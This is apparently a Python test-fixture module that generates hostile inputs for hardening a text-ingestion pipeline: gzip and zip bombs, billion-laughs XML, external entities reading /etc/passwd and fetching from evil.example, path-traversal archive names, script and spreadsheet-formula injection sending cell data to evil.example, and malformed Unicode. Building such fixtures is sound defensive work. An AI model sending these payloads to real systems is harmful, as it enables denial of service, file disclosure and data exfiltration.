"""Hostile inputs: each a file that a page, feed or archive on the open web could be.

`size` is about the number of bytes that are read; the tests try them small and the soak at full size.
"""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from collections.abc import Callable
from functools import cache
from typing import NamedTuple

GOOD = (
    "The harbour council of Varna Bay said on Monday that the ferry line would close in spring. "
    "“We were not asked,” said Ana Ruiz, who leads the union of the ferry crews.\n"
)
UNFOLDED = 30_000_000
"""Bytes of a bomb when it is unpacked."""

SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


class Hostile(NamedTuple):
    """A file that means harm. `make` takes the size."""

    name: str
    suffix: str
    make: Callable[[int], bytes]
    read: bool
    """Whether it holds a report that must be read; else it must be refused with an omission."""


def _text(name: str, unit: str, *, read: bool = True) -> Hostile:
    """One unit over and over, as plain text."""
    return Hostile(name, ".txt", lambda size: (unit * (size // len(unit) + 1)).encode(), read)


def _page(name: str, body: Callable[[int], str], *, read: bool = True) -> Hostile:
    """A page with a good paragraph beside something hostile."""

    def make(size: int) -> bytes:
        return f"<!doctype html><html><body><article><p>{GOOD * 3}</p>{body(size)}</article>".encode()

    return Hostile(name, ".html", make, read)


@cache
def bomb(unit: bytes = b"x") -> bytes:
    """More than is read of any document, compressed a thousandfold."""
    return gzip.compress(unit * (UNFOLDED // len(unit)), 1)


def zip_bomb(size: int) -> bytes:
    """The same as a ZIP archive, with a name that leads out of its folder."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../../tmp/out.txt", b"x" * UNFOLDED)
    return data.getvalue()


def laughs(size: int) -> bytes:
    """Entities that unfold to a billion and more."""
    steps = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    return (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a0 "ha">{steps}]><rss version="2.0"><channel>'
        f"<item><title>a</title><description>{GOOD} &a11;</description></item></channel></rss>"
    ).encode()


def external(size: int) -> bytes:
    """Entities that name a file, an address, and a declaration elsewhere."""
    return (
        '<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://evil.example/a.dtd" ['
        '<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>'
        f'<rss version="2.0"><channel><item><title>a &f;</title><description>{GOOD}&f;</description></item>'
        "</channel></rss>"
    ).encode()


def feed(size: int) -> bytes:
    """A feed with script in every field."""
    inside = f"{SCRIPT}{FORMULA}".replace("<", "&lt;").replace("&A", "&amp;A")
    fields = "".join(f"<{name}>{inside}</{name}>" for name in ("title", "link", "guid", "author", "pubDate"))
    item = f"<item>{fields}<description>{GOOD}{inside}</description></item>"
    return f'<rss version="2.0"><channel><title>{inside}</title>{item}</channel></rss>'.encode()


def fields(size: int) -> bytes:
    """A row with script, a formula and commands for the terminal in every field."""
    evil = f"{FORMULA} {SCRIPT} \x1b[31m \x07 \u202e"
    names = ("id", "title", "date", "url", "outlet", "language")
    row = dict.fromkeys(names, evil) | {"text": f"{GOOD}{evil}", "authors": [evil]}
    return (json.dumps(row) + "\n").encode()


def surrogates(size: int) -> bytes:
    """A row with halves of characters and with NUL in every field."""
    row = (
        f'{{"text": {json.dumps(GOOD)[:-1]} \\ud800 \\u0000 \\udfff", "title": "\\ud800", "url": "\\u0000"}}'
    )
    return row.encode()


def record(uri: str, payload: bytes, *headers: str) -> bytes:
    """One response of a web archive."""
    http = "\r\n".join(["HTTP/1.1 200 OK", "Content-Type: text/html", *headers, "", ""]).encode() + payload
    head = (
        f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {uri}\r\nWARC-Filename: ../../etc/out\r\n"
        f"WARC-Record-ID: <urn:uuid:../../../tmp/out>\r\nWARC-Date: 2031-05-03T00:00:00Z\r\n"
        f"Content-Type: application/http; msgtype=response\r\nContent-Length: {len(http)}\r\n\r\n"
    )
    return head.encode() + http + b"\r\n\r\n"


def traversal(size: int) -> bytes:
    """An archive whose records name paths that lead out of every folder."""
    page = f"<html><body><p>{GOOD * 3}</p></body></html>".encode()
    uris = ("file:///../../../tmp/out", "../../../../tmp/out", "http://wire.example/../../tmp/out\x00.html")
    return b"".join(record(uri, page) for uri in uris)


def packed(size: int) -> bytes:
    """An archive with a page that unfolds a thousandfold."""
    return record("http://wire.example/", bomb(), "Content-Encoding: gzip")


def lying(size: int) -> bytes:
    """An archive whose record says that it is far longer than the file."""
    whole = record("http://wire.example/", b"<html><body>" + GOOD.encode())
    return whole.replace(b"Content-Length: ", b"Content-Length: 99999999999")


INPUTS = (
    Hostile("gzip bomb, text", ".txt.gz", lambda size: bomb(), False),
    Hostile("gzip bomb, NULs", ".txt.gz", lambda size: bomb(b"\0"), False),
    Hostile("gzip bomb, page", ".html.gz", lambda size: bomb(b"<b>"), False),
    Hostile("gzip bomb, JSON lines", ".jsonl.gz", lambda size: bomb(), False),
    Hostile("gzip bomb, feed", ".xml.gz", lambda size: bomb(), False),
    Hostile("gzip bomb inside a web archive", ".warc", packed, False),
    Hostile("gzip inside gzip", ".txt.gz", lambda size: gzip.compress(bomb()), False),
    Hostile("zip bomb", ".txt", zip_bomb, False),
    _page("nested elements", lambda size: "<div>" * (size // 10) + GOOD),
    _page("nested inline elements", lambda size: "<b><i>" * (size // 10) + GOOD),
    _page("nested lists", lambda size: "<ul><li>" * (size // 10) + GOOD),
    _page("nested tables", lambda size: "<table><tr><td>" * (size // 15) + GOOD),
    _page("nested quotations", lambda size: "<blockquote><p>" * (size // 15) + GOOD),
    _page("many paragraphs", lambda size: "<p>a</p>" * (size // 8)),
    _page("many links", lambda size: "<a href='/a'>a</a>" * (size // 18)),
    _page("many attributes", lambda size: "<p " + " ".join(f"a{n}=b" for n in range(size // 8)) + ">a</p>"),
    _page("one huge attribute", lambda size: f"<p class='{'a ' * (size // 2)}'>a</p>"),
    _page("a comment that never ends", lambda size: "<!--" + "a" * size),
    _page("a script that never ends", lambda size: "<script>" + "<p>" * (size // 3)),
    _page("many entities", lambda size: "<p>" + "&#x202e;&lt;&#0;&#xd800;" * (size // 24) + "</p>"),
    _page("much metadata", lambda size: "<meta property='article:author' content='A B'>" * (size // 46)),
    _page("JSON-LD that nests", lambda size: f"<script type='application/ld+json'>{'[' * size}</script>"),
    Hostile("page that is no HTML", ".html", lambda size: b"<" * size, False),
    Hostile("billion laughs", ".xml", laughs, True),
    Hostile("external entities", ".xml", external, True),
    Hostile("feed with script in every field", ".xml", feed, True),
    Hostile("feed that nests", ".xml", lambda size: b"<rss><channel><item>" + b"<a>" * size, False),
    Hostile("script in every field", ".jsonl", fields, True),
    Hostile("half characters in every field", ".jsonl", surrogates, True),
    Hostile("JSON that nests", ".jsonl", lambda size: b'{"text":' + b"[" * size, False),
    Hostile("paths in an archive", ".warc", traversal, True),
    Hostile("a length that lies", ".warc", lying, False),
    Hostile("invalid UTF-8", ".txt", lambda size: GOOD.encode() * 9 + b"\xff\xfe\xc3\x28" * 9, True),
    Hostile("NULs in a text", ".txt", lambda size: GOOD.encode() * 9 + b"\0\0\0" + GOOD.encode(), True),
    _text("straight quotation marks", '"'),
    _text("opening quotation marks", "“"),
    _text("quotation marks and words", '" a '),
    _text("nested quotation marks", "“he said ‘she said "),
    _text("quotation marks that never close", "“We said it. \n\n"),
    _text("right-to-left marks", "\u202eThe council\u202c said \u200fit.\u200e "),
    _text("zero-width characters", "T\u200bhe cou\u200dncil sa\u2060id\ufeff it. "),
    _text("combining marks", "a" + "\u0301" * 99 + " "),
    _text("joined emoji", "👩\u200d👩\u200d👧 "),
    _text("capitals", "THE COUNCIL OF VARNA BAY SAID ON MONDAY THAT THE LINE WOULD CLOSE. "),
    _text("capitals without a full stop", "THE COUNCIL OF VARNA BAY SAID ON MONDAY "),
    _text("one word", "a"),
    _text("one number", "1"),
    _text("one address", "https://a.example/"),
    _text("one word of another script", "字"),
    _text("short lines", "a b\n"),
    _text("empty lines", "a\n\n\n\n\n\n\n\n\n"),
    _text("blanks", "a" + " " * 9_999),
    _text("full stops", "."),
    _text("dashes", "- "),
    _text("brackets", "("),
    _text("initials", "A. "),
    _text("commas", "Ana, "),
    _text("names", "Ana Ruiz "),
    _text("names and commas", "Ana Ruiz, Ivo Hart, "),
    _text("conjunctions", "Ana and Ivo and "),
    _text("titles", "Mr. "),
    _text("cues", "said "),
    _text("speakers and cues", "he said she said "),
    _text("inversions", "said Ana Ruiz, "),
    _text("relative clauses", "who said that Ana, "),
    _text("months", "May "),
    _text("dates", "3 May 2031, "),
    _text("amounts", "$1,000 million to "),
    _text("abbreviations", "U.S. "),
    _text("headings", "BREAKING: Varna Bay — \n"),
    _text("table of bars", "| a | b |\n"),
    _text("sentences", GOOD),
    _text("sentences on one line", GOOD.replace("\n", " ")),
)
"""Every input by what it is."""
